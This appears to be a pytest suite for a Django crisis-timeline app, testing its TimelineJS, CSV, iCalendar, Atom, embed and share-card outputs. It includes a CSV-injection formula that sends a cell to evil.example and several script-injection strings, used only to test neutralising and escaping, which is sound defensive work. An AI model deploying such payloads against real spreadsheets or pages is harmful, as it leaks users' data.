"""Taking the timeline anywhere: TimelineJS JSON, CSV, iCalendar, Atom, the embed, the actors'
JSON and the share cards on permalinks.

Every export is read back with a real parser and compared with `/api/events.json` for the same
filters; dates keep the precision the EDTF has.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import threading
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import feedparser
import pytest
import tablib
from django.conf import settings
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from icalendar import Calendar
from playwright.sync_api import Page, expect

from timeline import exports
from timeline.models import Actor, Citation, Event, EventType, Participation, Source
from timeline.resources import EventResource

pytestmark = pytest.mark.django_db

CALL = "poetin-macron-telefoongesprek-2022-01-28"
HOEKSTRA = "hoekstra-nederlandse-diplomaten-mogen-weg"
MEETING = "lavrov-blinken-ontmoeting-verwacht"  # 2022-01-29/.., expected
LETTER = "navo-brief-aan-kremlin-2022-01-26"  # an exact day, no part of day
BAERBOCK = "lavrov-baerbock-gesprek-2022-01-28"  # scheduled
KIEV = "vs-halen-diplomaten-weg-uit-kiev"  # 2022-01-28~
EXPORTS = ["/export/timelinejs.json", "/export/events.csv", "/export/events.ics", "/feed/"]
BAD_FILTERS = [
    ("from=xyzzy", "from"),
    ("actor=niemand", "actor"),
    ("type=onbekend", "type"),
    ("status=misschien", "status"),
    ("order=zijwaarts", "order"),
    ("cursor=rommel", "cursor"),
]


def _api_slugs(client, query: str = "") -> list[str]:
    response = client.get("/api/events.json" + query)
    assert response.status_code == 200
    body = response.json()
    assert body["next"] is None  # the seed fits on one page
    return [e["slug"] for e in body["events"]]


def _month_event() -> Event:
    """An event the source dates no more precisely than "januari 2022"."""
    event = Event.objects.create(
        slug="gesprekken-in-januari",
        title="Gesprekken in januari",
        type=EventType.objects.get(slug="talks"),
        edtf="2022-01",
        published=True,
    )
    lavrov = Actor.objects.get(slug="lavrov")
    Participation.objects.create(event=event, actor=lavrov, role="speaker")
    return event


# -- TimelineJS ---------------------------------------------------------------------------------


def _timelinejs(client, query: str = "") -> dict:
    response = client.get("/export/timelinejs.json" + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Access-Control-Allow-Origin"] == "*"
    return json.loads(response.content)


def _slide(data: dict, slug: str) -> dict:
    return next(e for e in data["events"] if e["unique_id"] == slug)


def test_it_exports_every_published_event_to_timelinejs(client, seed):
    Event.objects.filter(slug=LETTER).update(published=False)
    data = _timelinejs(client)
    assert [e["unique_id"] for e in data["events"]] == _api_slugs(client)
    assert LETTER not in [e["unique_id"] for e in data["events"]]
    assert data["title"]["text"]["headline"] == "Crisis Timeline"
    assert f"{len(data['events'])} gebeurtenissen" in data["title"]["text"]["text"]
    for slide in data["events"]:
        assert set(slide) <= {
            "start_date", "end_date", "display_date", "text", "group", "unique_id",
        }  # fmt: skip
        assert slide["text"]["headline"] and slide["group"]


def test_it_exports_only_the_filtered_events_to_timelinejs(client, seed):
    data = _timelinejs(client, "?actor=lavrov")
    assert [e["unique_id"] for e in data["events"]] == _api_slugs(client, "?actor=lavrov")
    assert 0 < len(data["events"]) < Event.objects.count()
    assert "?actor=lavrov" in data["title"]["text"]["text"]


def test_it_gives_timelinejs_dates_as_precise_as_the_edtf(client, seed):
    _month_event()
    data = _timelinejs(client)

    hoekstra = _slide(data, HOEKSTRA)
    assert hoekstra["start_date"] == {"year": 2022, "month": 1, "day": 24}
    assert hoekstra["end_date"] == {"year": 2022, "month": 1, "day": 27}
    assert hoekstra["display_date"] == "24–27 januari 2022"

    month = _slide(data, "gesprekken-in-januari")
    assert month["start_date"] == {"year": 2022, "month": 1}
    assert "end_date" not in month
    assert month["display_date"] == "januari 2022"

    meeting = _slide(data, MEETING)
    assert meeting["start_date"] == {"year": 2022, "month": 1, "day": 29}
    assert "end_date" not in meeting  # open-ended
    assert meeting["display_date"] == "na 28 januari 2022"

    assert _slide(data, KIEV)["display_date"] == "ca. vrijdag 28 januari 2022"
    assert _slide(data, CALL)["display_date"] == "vrijdag 28 januari 2022 · ochtend"
    # An exact day: TimelineJS writes the date itself.
    letter = _slide(data, LETTER)
    assert letter["start_date"] == {"year": 2022, "month": 1, "day": 26}
    assert "end_date" not in letter and "display_date" not in letter


def test_it_puts_the_quote_source_and_permalink_in_the_slide_and_groups_by_type(client, seed):
    # The seed's source has no URL; give it one, so that the link to it is checked.
    url = "https://nos.nl/artikel/2414462"
    Source.objects.filter(citations__event__slug=CALL).update(url=url)
    slide = _slide(_timelinejs(client), CALL)
    event = Event.objects.get(slug=CALL)
    assert slide["group"] == event.type.name == "telefoongesprek"
    text = slide["text"]["text"]
    quote = event.citations.get().quote
    assert f'<blockquote cite="{url}" lang="nl"><p>{quote}</p></blockquote>' in text
    assert f'href="http://testserver/events/{CALL}/"' in text
    source = event.citations.get().source
    assert f'href="{source.url}"' in text
    assert source.outlet in text
    assert "Vladimir Poetin (spreker), Emmanuel Macron (spreker)" in text


def test_it_escapes_html_in_timelinejs_text(client, seed):
    Event.objects.filter(slug=CALL).update(title="Poetin <b>belt</b> & Macron")
    Citation.objects.filter(event__slug=CALL).update(quote='<script>alert("x")</script> & meer')
    slide = _slide(_timelinejs(client), CALL)
    assert slide["text"]["headline"] == "Poetin &lt;b&gt;belt&lt;/b&gt; &amp; Macron"
    text = slide["text"]["text"]
    assert "<script>" not in text
    escaped = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; meer"
    assert f'<blockquote lang="nl"><p>{escaped}</p></blockquote>' in text


def test_it_caps_an_export_and_says_so(client, seed, monkeypatch):
    monkeypatch.setattr(exports, "MAX_EXPORT", 3)
    response = client.get("/export/timelinejs.json")
    data = json.loads(response.content)
    assert [e["unique_id"] for e in data["events"]] == _api_slugs(client)[:3]
    total = Event.objects.published().count()
    assert f"Alleen de eerste 3 van {total} gebeurtenissen" in data["title"]["text"]["text"]
    assert (response["X-Export-Count"], response["X-Total-Count"]) == ("3", str(total))
    _, rows, _ = _csv(client)
    assert len(rows) == 3


def test_it_labels_timelinejs_dates_in_english_under_en(client, seed):
    data = _timelinejs(client, "")
    english = json.loads(client.get("/en/export/timelinejs.json").content)
    assert _slide(data, HOEKSTRA)["display_date"] == "24–27 januari 2022"
    assert _slide(english, HOEKSTRA)["display_date"] == "24–27 January 2022"
    permalink = f'href="http://testserver/en/events/{HOEKSTRA}/"'
    assert permalink in _slide(english, HOEKSTRA)["text"]["text"]


# -- CSV ------------------------------------------------------------------------------------------


def _csv(client, query: str = "") -> tuple[bytes, list[dict], list[str]]:
    response = client.get("/export/events.csv" + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="crisis-timeline-events.csv"'
    content = response.getvalue()
    reader = csv.DictReader(io.StringIO(content.decode("utf-8-sig")))
    return content, list(reader), reader.fieldnames


def test_it_exports_a_spreadsheet_with_the_import_columns(client, seed):
    content, rows, header = _csv(client)
    # A byte-order mark, so that Excel reads UTF-8 ("Oekraïne") correctly.
    assert content.startswith("\ufeff".encode())
    assert header == EventResource().get_export_headers()
    assert header[:3] == ["Year", "Month", "Day"] and "Slug" in header and "EDTF" in header
    assert [row["Slug"] for row in rows] == _api_slugs(client)
    hoekstra = next(row for row in rows if row["Slug"] == HOEKSTRA)
    assert hoekstra["EDTF"] == "2022-01-24/2022-01-27"
    assert (hoekstra["Day"], hoekstra["End Day"]) == ("24", "27")
    assert "Oekraïne" in hoekstra["Headline"]


def test_it_exports_a_filtered_spreadsheet(client, seed):
    _, rows, _ = _csv(client, "?actor=lavrov&order=desc")
    assert [row["Slug"] for row in rows] == _api_slugs(client, "?actor=lavrov&order=desc")
    assert all("lavrov:" in row["Actors"] for row in rows)


FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Bron")'


def test_it_neutralises_formulae_in_the_csv_and_imports_them_back_unchanged(client, seed):
    Event.objects.filter(slug=CALL).update(title=FORMULA, summary="+31 20 123", location="@Kyiv")
    Event.objects.filter(slug=LETTER).update(summary="-1 graad", location="\tKyiv")
    content, rows, _ = _csv(client)
    call = next(row for row in rows if row["Slug"] == CALL)
    # A spreadsheet shows these as text: a leading quote, as OWASP advises.
    assert (call["Headline"], call["Text"], call["Location"]) == (
        "'" + FORMULA, "'+31 20 123", "'@Kyiv"
    )  # fmt: skip
    letter = next(row for row in rows if row["Slug"] == LETTER)
    assert (letter["Text"], letter["Location"]) == ("'-1 graad", "'\tKyiv")
    assert letter["Day"] == "26"  # numbers stay numbers

    dataset = tablib.Dataset().load(content.decode("utf-8-sig"), format="csv")
    Event.objects.filter(slug__in=[CALL, LETTER]).update(title="x", summary="x", location="x")
    result = EventResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    call = Event.objects.get(slug=CALL)
    assert (call.title, call.summary, call.location) == (FORMULA, "+31 20 123", "@Kyiv")
    assert Event.objects.get(slug=LETTER).summary == "-1 graad"


def _api_snapshot(client) -> dict:
    events = client.get("/api/events.json").json()["events"]
    timelines = {
        e.slug: sorted(e.timelines.values_list("slug", flat=True)) for e in Event.objects.all()
    }
    return {"events": events, "timelines": timelines}


def _hidden(html: str, name: str) -> str:
    match = re.search(rf'name="{name}"[^>]*value="([^"]*)"|value="([^"]*)"[^>]*name="{name}"', html)
    assert match, name
    return match.group(1) or match.group(2)


def test_it_imports_its_own_csv_back_unchanged_through_the_admin(client, admin_client, seed):
    before = _api_snapshot(client)
    content, rows, _ = _csv(client)
    Event.objects.all().delete()
    assert client.get("/api/events.json").json()["count"] == 0

    upload = SimpleUploadedFile("crisis-timeline-events.csv", content, content_type="text/csv")
    check = admin_client.post(
        "/admin/timeline/event/import/", {"resource": "0", "format": "0", "import_file": upload}
    )["Location"]
    call_command("db_worker", "--batch", "--no-startup-delay", "--interval", "0", verbosity=0)
    html = admin_client.get(check).content.decode()
    assert 'value="Importeren"' in html, html[:2000]
    job = admin_client.post(check)["Location"]
    call_command("db_worker", "--batch", "--no-startup-delay", "--interval", "0", verbosity=0)
    assert "Geïmporteerd:" in admin_client.get(job).content.decode()

    assert Event.objects.count() == len(rows)
    assert _api_snapshot(client) == before


def test_it_imports_an_edited_export_with_only_the_edit_applied(client, seed):
    before = {e["slug"]: e for e in client.get("/api/events.json").json()["events"]}
    content, rows, header = _csv(client)
    for row in rows:
        if row["Slug"] == HOEKSTRA:
            row["Headline"] = "Hoekstra: diplomaten mogen Oekraïne verlaten"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=header)
    writer.writeheader()
    writer.writerows(rows)

    dataset = tablib.Dataset().load(out.getvalue(), format="csv")
    result = EventResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()

    after = {e["slug"]: e for e in client.get("/api/events.json").json()["events"]}
    assert after[HOEKSTRA]["title"] == "Hoekstra: diplomaten mogen Oekraïne verlaten"
    after[HOEKSTRA]["title"] = before[HOEKSTRA]["title"]
    assert after == before


# -- iCalendar ----------------------------------------------------------------------------------


def _calendar(client, query: str = "") -> dict:
    response = client.get("/export/events.ics" + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    calendar = Calendar.from_ical(response.getvalue())
    assert str(calendar["VERSION"]) == "2.0" and calendar["PRODID"]
    return {str(v["UID"]): v for v in calendar.walk("VEVENT")}


def test_it_exports_a_valid_calendar_beyond_the_export_cap(client, seed):
    """More events match than one export holds: the calendar still parses and says so."""
    talks = EventType.objects.get(slug="talks")
    day = dt.date(2021, 1, 1)
    Event.objects.bulk_create(
        Event(
            slug=f"massa-{n}", title=f"Gebeurtenis {n}", type=talks, edtf=day.isoformat(),
            start=day, end=day, published=True,
        )
        for n in range(6_000)
    )  # fmt: skip
    response = client.get("/export/events.ics")
    assert response.status_code == 200
    calendar = Calendar.from_ical(response.getvalue())
    total = Event.objects.published().count()
    assert len(calendar.walk("VEVENT")) == exports.MAX_EXPORT
    counts = (response["X-Export-Count"], response["X-Total-Count"])
    assert counts == (str(exports.MAX_EXPORT), str(total))
    description = str(calendar["X-WR-CALDESC"])
    assert f"Alleen de eerste {exports.MAX_EXPORT} van {total} gebeurtenissen" in description
    assert "http://testserver/" in description


def test_it_exports_a_calendar_with_a_stable_uid_per_event(client, seed):
    events = _calendar(client)
    assert list(events) == [f"{slug}@crisis-timeline" for slug in _api_slugs(client)]
    filtered = _calendar(client, "?actor=lavrov")
    lavrov = _api_slugs(client, "?actor=lavrov")
    assert list(filtered) == [f"{slug}@crisis-timeline" for slug in lavrov]


def test_it_makes_all_day_calendar_events_with_an_exclusive_end(client, seed):
    _month_event()
    events = _calendar(client)

    hoekstra = events[f"{HOEKSTRA}@crisis-timeline"]
    assert hoekstra["DTSTART"].to_ical() == b"20220124"
    assert hoekstra["DTEND"].to_ical() == b"20220128"
    assert hoekstra.decoded("DTSTART") == dt.date(2022, 1, 24)  # a DATE, not a time
    assert not isinstance(hoekstra.decoded("DTSTART"), dt.datetime)

    month = events["gesprekken-in-januari@crisis-timeline"]
    assert month.decoded("DTSTART") == dt.date(2022, 1, 1)
    assert month.decoded("DTEND") == dt.date(2022, 2, 1)

    # Open-ended: one day at its start, and the description says what is known.
    meeting = events[f"{MEETING}@crisis-timeline"]
    assert meeting.decoded("DTSTART") == dt.date(2022, 1, 29)
    assert meeting.decoded("DTEND") == dt.date(2022, 1, 30)
    assert str(meeting["DESCRIPTION"]).startswith("na 28 januari 2022")

    # A part of day stays a label: no invented time.
    call = events[f"{CALL}@crisis-timeline"]
    assert not isinstance(call.decoded("DTSTART"), dt.datetime)
    assert str(call["SUMMARY"]) == "Telefoongesprek tussen Poetin en Macron (ochtend)"
    assert str(call["DESCRIPTION"]).startswith("vrijdag 28 januari 2022 · ochtend")


def test_it_maps_status_and_puts_quote_source_and_permalink_in_the_calendar(client, seed):
    Event.objects.filter(slug=LETTER).update(status="cancelled")
    events = _calendar(client)
    status = {uid.split("@")[0]: str(v["STATUS"]) for uid, v in events.items()}
    assert status[CALL] == "CONFIRMED"
    assert status[BAERBOCK] == "TENTATIVE"
    assert status[MEETING] == "TENTATIVE"
    assert status[LETTER] == "CANCELLED"

    call = events[f"{CALL}@crisis-timeline"]
    event = Event.objects.get(slug=CALL)
    citation = event.citations.get()
    description = str(call["DESCRIPTION"])
    assert citation.quote in description and citation.source.outlet in description
    assert str(call["URL"]) == f"http://testserver/events/{CALL}/"
    assert call.decoded("DTSTAMP") == event.updated
    assert [str(c) for c in call["CATEGORIES"].cats] == ["telefoongesprek"]


# -- Atom -----------------------------------------------------------------------------------------


def _feed(client, query: str = ""):
    response = client.get("/feed/" + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/atom+xml; charset=utf-8"
    feed = feedparser.parse(response.content)
    assert not feed.bozo, feed.bozo_exception
    assert feed.version == "atom10"
    return feed


def test_it_publishes_an_atom_feed_newest_first(client, seed):
    newest = Event.objects.get(slug=HOEKSTRA)
    Event.objects.filter(pk=newest.pk).update(created=dt.datetime(2022, 2, 1, tzinfo=dt.UTC))
    feed = _feed(client)
    links = [entry.link for entry in feed.entries]
    assert sorted(links) == sorted(f"http://testserver/events/{s}/" for s in _api_slugs(client))
    assert links[0] == f"http://testserver/events/{HOEKSTRA}/"
    first = feed.entries[0]
    assert first.id == f"http://testserver/events/{HOEKSTRA}/"
    assert first.title == (
        "Hoekstra: Nederlandse diplomaten mogen weg uit Oekraïne (24–27 januari 2022)"
    )
    assert "Nederlandse diplomaten mogen weg als zij dat willen" in first.summary
    assert '<blockquote lang="nl">' in first.summary
    assert first.published_parsed[:3] == (2022, 2, 1)
    event = Event.objects.get(pk=newest.pk)
    updated = dt.datetime(*first.updated_parsed[:6], tzinfo=dt.UTC)
    # Never corrected: the entry is as new as when it was entered, whatever edits followed.
    assert updated == event.created.replace(microsecond=0)
    assert [t.term for t in first.tags] == ["verklaring"]


def test_it_filters_the_feed(client, seed):
    feed = _feed(client, "?actor=macron")
    assert [entry.link for entry in feed.entries] == [f"http://testserver/events/{CALL}/"]
    alternate = next(link for link in feed.feed.links if link.rel == "alternate")
    assert alternate.href == "http://testserver/?actor=macron"
    self_link = next(link for link in feed.feed.links if link.rel == "self")
    assert self_link.href == "http://testserver/feed/?actor=macron"


# -- bad filters ---------------------------------------------------------------------------------


@pytest.mark.parametrize("url", EXPORTS + ["/en/export/timelinejs.json"])
@pytest.mark.parametrize(("query", "field"), BAD_FILTERS)
def test_it_answers_a_bad_filter_with_a_plain_400(client, url, query, field):
    response = client.get(f"{url}?{query}")
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert f"\n{field}: " in response.content.decode()


@pytest.mark.parametrize("url", EXPORTS)
def test_it_refuses_an_absurdly_long_query(client, url):
    response = client.get(url + "?q=" + "x" * 20_000)
    assert response.status_code == 400


# -- the cost of an export --------------------------------------------------------------------

CACHED_EXPORTS = ["/export/timelinejs.json", "/export/events.csv", "/export/events.ics"]


@pytest.fixture
def export_cache(settings):
    """Local-memory caching on, as in production (tests otherwise run with DummyCache)."""
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache",
                                   "LOCATION": "test-export-cache"}}  # fmt: skip
    cache.clear()
    yield cache
    cache.clear()


@pytest.mark.parametrize("url", CACHED_EXPORTS)
def test_it_serves_a_repeated_export_from_the_cache_until_an_edit(client, seed, export_cache, url):
    first = client.get(url + "?actor=lavrov")
    body = first.getvalue()
    second = client.get(url + "?actor=lavrov")
    assert (first["X-Cache"], second["X-Cache"]) == ("miss", "hit")
    assert second.getvalue() == body
    for header in ("Content-Type", "X-Total-Count", "X-Export-Count", "Access-Control-Allow-Origin"):
        assert second[header] == first[header]
    assert second.get("Content-Disposition") == first.get("Content-Disposition")

    event = Event.objects.get(slug=BAERBOCK)
    event.title = "Lavrov en Baerbock spreken elkaar in Moskou"
    event.save()
    third = client.get(url + "?actor=lavrov")
    assert third["X-Cache"] == "miss"
    assert "Lavrov en Baerbock spreken elkaar in Moskou" in third.getvalue().decode()


def test_it_streams_the_spreadsheet_and_the_calendar(client, seed):
    for url in ("/export/events.csv", "/export/events.ics"):
        response = client.get(url)
        assert response.status_code == 200 and response.streaming, url
        response.getvalue()
    _, rows, _ = _csv(client)
    assert [row["Slug"] for row in rows] == _api_slugs(client)
    assert list(_calendar(client)) == [f"{slug}@crisis-timeline" for slug in _api_slugs(client)]


def test_it_computes_only_so_many_exports_at_once(client, seed, settings, export_cache):
    settings.EXPORT_SLOTS = 1
    busy = exports.take_export_slot()
    assert busy is not None
    try:
        refused = client.get("/export/events.csv")
        assert refused.status_code == 503 and refused["Retry-After"] == "5"
        assert client.get("/export/events.ics").status_code == 503
        # The timeline and the API have workers of their own.
        assert client.get("/api/events.json").status_code == 200
        assert client.get("/").status_code == 200
    finally:
        busy.close()

    # A streamed export holds its slot until the last byte is sent.
    streaming = client.get("/export/events.csv")
    assert streaming.status_code == 200
    assert exports.take_export_slot() is None
    streaming.getvalue()
    free = exports.take_export_slot()
    assert free is not None
    try:
        # What is cached costs no slot.
        again = client.get("/export/events.csv")
        assert (again.status_code, again["X-Cache"]) == (200, "hit")
    finally:
        free.close()


# -- actors --------------------------------------------------------------------------------------


def test_it_lists_every_actor_with_its_published_event_count(client, seed):
    Event.objects.filter(slug=CALL).update(published=False)
    body = client.get("/api/actors.json").json()
    # Seventeen in the seed, less Macron (his one event is no longer published) and Frankrijk,
    # which only he belonged to.
    assert body["count"] == len(body["actors"]) == 15
    assert not {"macron", "frankrijk"} & {a["slug"] for a in body["actors"]}
    poetin = next(a for a in body["actors"] if a["slug"] == "poetin")
    assert poetin == {
        "slug": "poetin",
        "name": "Vladimir Poetin",
        "kind": "person",
        "function": "president",
        "affiliation": "rusland",
        "aliases": ["Poetin", "Putin", "Vladimir Putin"],
        "url": "http://testserver/actors/poetin/",
        "event_count": Event.objects.published()
        .filter(participations__actor__slug="poetin")
        .distinct()
        .count(),
    }
    for actor in body["actors"]:
        api = client.get("/api/events.json", {"actor": actor["slug"]}).json()
        assert actor["event_count"] == api["count"], actor["slug"]


def test_it_finds_actors_by_any_spelling(client, seed):
    putin = client.get("/api/actors.json?q=putin").json()["actors"]
    assert [a["slug"] for a in putin] == ["poetin"]
    assert "navo" in [a["slug"] for a in client.get("/api/actors.json?q=NATO").json()["actors"]]
    assert client.get("/api/actors.json?q=zzzz").json() == {"count": 0, "actors": []}
    response = client.get("/api/actors.json?q=" + "x" * 201)
    assert response.status_code == 400 and "q" in response.json()["errors"]


def _add_events(n: int) -> None:
    """More events, each with participants and a quote, like the seed's."""
    template = Event.objects.get(slug=CALL)
    for i in range(n):
        event = Event.objects.create(
            slug=f"extra-{i}", title=f"Extra {i}", type=template.type, edtf="2022-01-27",
            part_of_day="evening", published=True,
        )  # fmt: skip
        for participation in template.participations.all():
            Participation.objects.create(
                event=event, actor=participation.actor, role=participation.role
            )
        for citation in template.citations.all():
            Citation.objects.create(event=event, source=citation.source, quote=f"Citaat {i}")


@pytest.mark.parametrize("url", [*EXPORTS, "/embed/", "/api/actors.json"])
def test_it_answers_in_a_constant_number_of_queries(client, seed, url):
    def queries() -> int:
        cache.clear()  # the work of a page-cache miss
        with CaptureQueriesContext(connection) as captured:
            response = client.get(url)
            assert response.status_code == 200
            response.getvalue()  # a streamed body queries as it is sent
        return len(captured)

    client.get(url).getvalue()  # warm up per-process caches (content types, the event index)
    before = queries()
    _add_events(12)
    client.get(url).getvalue()  # the first request after a change rebuilds the event index
    assert queries() == before


# -- embed -------------------------------------------------------------------------------------


def _csp(response) -> dict[str, list[str]]:
    return {
        d.split()[0]: d.split()[1:]
        for d in response["Content-Security-Policy"].split(";")
        if d.strip()
    }


def test_it_lets_any_site_frame_the_embed_and_only_the_embed(client, seed):
    response = client.get("/embed/")
    assert response.status_code == 200
    assert "X-Frame-Options" not in response
    policy = _csp(response)
    assert policy["frame-ancestors"] == ["*"]
    # The rest of the site's policy stays as strict as everywhere.
    for directive, values in settings.SECURE_CSP.items():
        if directive != "frame-ancestors":
            assert policy[directive] == [str(v) for v in values], directive
    for url in ["/", f"/events/{CALL}/", "/actors/lavrov/", "/api/events.json", "/api/actors.json",
                "/api/openapi.json", "/feed/", "/en/", "/admin/login/", *EXPORTS]:  # fmt: skip
        other = client.get(url)
        assert other["X-Frame-Options"] == "DENY", url
        assert _csp(other)["frame-ancestors"] == ["'none'"], url


def test_it_embeds_the_filtered_timeline_without_inline_script_or_style(client, seed):
    response = client.get("/embed/?actor=lavrov")
    html = response.content.decode()
    ids = re.findall(r'<article class="embed-event [^"]*" id="event-([^"]+)"', html)
    assert ids == _api_slugs(client, "?actor=lavrov")
    assert "/static/css/embed.css" in html
    assert not re.search(r"<script|<style|\sstyle=", html)
    assert "Nederlandse diplomaten" not in html  # not a Lavrov event


class _Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.links: list[dict] = []

    def handle_starttag(self, tag, attrs):
        if tag == "a":
            self.links.append(dict(attrs))


def test_it_opens_the_full_site_in_a_new_tab_from_the_embed(client, seed, monkeypatch):
    monkeypatch.setattr("timeline.query.forms.EventFilterForm.PAGE_SIZE", 5)
    parser = _Links()
    parser.feed(client.get("/embed/?actor=lavrov").content.decode())
    more = [a for a in parser.links if a["href"].startswith("?")]
    outward = [a for a in parser.links if not a["href"].startswith("?")]
    # Paging stays inside the frame; everything else opens the site.
    assert len(more) == 1 and "cursor=" in more[0]["href"] and "actor=lavrov" in more[0]["href"]
    assert "target" not in more[0]
    hrefs = {a["href"] for a in outward}
    assert hrefs >= {"http://testserver/?actor=lavrov", f"/events/{BAERBOCK}/"}
    for a in outward:
        assert a.get("target") == "_blank" and "noopener" in a.get("rel", "").split(), a


def test_it_names_a_dropped_filter_in_the_embed_and_refuses_a_bad_cursor(client, seed):
    response = client.get("/embed/?actor=lavrov&from=xyzzy")
    assert response.status_code == 200
    assert "Datum niet begrepen" in response.content.decode()
    response = client.get("/embed/?cursor=rommel")
    assert response.status_code == 400
    assert "X-Frame-Options" not in response


@pytest.fixture
def news_site():
    """Another origin with an article that frames our embed and our timeline page.

    A real local server: Chromium refuses frames from a public address (and a page Playwright
    fulfils itself counts as one) to a local one, whatever our headers say.
    """
    pages: dict[str, str] = {}

    class Article(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - the base class's name
            body = pages.get(self.path, "").encode()
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format, *args):  # noqa: A002
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Article)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", pages
    server.shutdown()
    server.server_close()


@pytest.mark.django_db(transaction=True)
def test_a_news_site_can_frame_the_embed_but_not_the_timeline(page: Page, live_seed, news_site):
    """In Chromium, from another origin: the embed shows, the timeline page is refused."""
    origin, pages = news_site
    assert not live_seed.url.startswith(origin)
    pages["/article"] = (
        '<!doctype html><html lang="nl"><title>Artikel</title>'
        f'<iframe id="embed" title="Tijdlijn" src="{live_seed.url}/embed/?actor=macron"></iframe>'
        f'<iframe id="page" title="Pagina" src="{live_seed.url}/"></iframe></html>'
    )
    refused = []
    page.on("requestfailed", lambda r: refused.append((r.url, r.failure)))
    page.goto(origin + "/article")
    embed = page.frame_locator("#embed")
    expect(embed.locator("h2")).to_have_text("Telefoongesprek tussen Poetin en Macron")
    expect(embed.locator("h2 a")).to_have_attribute("target", "_blank")
    # The timeline page itself is refused by its own headers: its frame gets Chromium's error
    # page instead of our document.
    timeline_frame = page.frame_locator("#page")
    expect(timeline_frame.locator("#main-frame-error, body.neterror")).not_to_have_count(0)
    expect(timeline_frame.locator(".brand")).to_have_count(0)
    assert all("/embed/" not in url for url, _ in refused)


# -- share cards -------------------------------------------------------------------------------


class _Head(HTMLParser):
    def __init__(self):
        super().__init__()
        self.meta: dict[str, str] = {}
        self.canonical: list[str] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "meta" and (a.get("property") or a.get("name")):
            self.meta[a.get("property") or a.get("name")] = a.get("content", "")
        if tag == "link" and a.get("rel") == "canonical":
            self.canonical.append(a["href"])


def _head(html: str) -> _Head:
    head = _Head()
    head.feed(html[: html.index("</head>")])
    return head


def test_it_gives_an_event_permalink_a_share_card(client, seed):
    event = Event.objects.get(slug=CALL)
    head = _head(client.get(f"/events/{CALL}/").content.decode())
    url = f"http://testserver/events/{CALL}/"
    assert head.canonical == [url]
    assert head.meta["og:url"] == url
    assert head.meta["og:type"] == "article"
    assert head.meta["og:site_name"] == "Crisis Timeline"
    assert head.meta["og:title"] == head.meta["twitter:title"] == event.title
    assert head.meta["og:description"] == head.meta["twitter:description"] == event.summary
    assert head.meta["twitter:card"] == "summary"
    english = _head(client.get(f"/en/events/{CALL}/").content.decode())
    assert english.canonical == [f"http://testserver/en/events/{CALL}/"]


def test_it_gives_an_actor_permalink_a_share_card(client, seed):
    head = _head(client.get("/actors/lavrov/").content.decode())
    assert head.canonical == ["http://testserver/actors/lavrov/"]
    assert head.meta["og:url"] == "http://testserver/actors/lavrov/"
    assert head.meta["og:type"] == "profile"
    assert head.meta["og:title"] == "Sergej Lavrov"
    assert "minister van Buitenlandse Zaken" in head.meta["og:description"]
    assert "Rusland" in head.meta["og:description"]
    assert head.meta["twitter:card"] == "summary"


def test_it_escapes_the_share_card(client, seed):
    title = 'Poetin & "Macron" <b>bellen</b>'
    event = Event.objects.get(slug=CALL)
    event.title = title
    event.summary = "Een <script>alert(1)</script> samenvatting"
    event.save()
    html = client.get(f"/events/{CALL}/").content.decode()
    head = _head(html)
    assert head.meta["og:title"] == title
    assert head.meta["og:description"] == "Een <script>alert(1)</script> samenvatting"
    assert 'content="Poetin &amp; &quot;Macron&quot; &lt;b&gt;bellen&lt;/b&gt;"' in html
    assert "<script>alert(1)" not in html
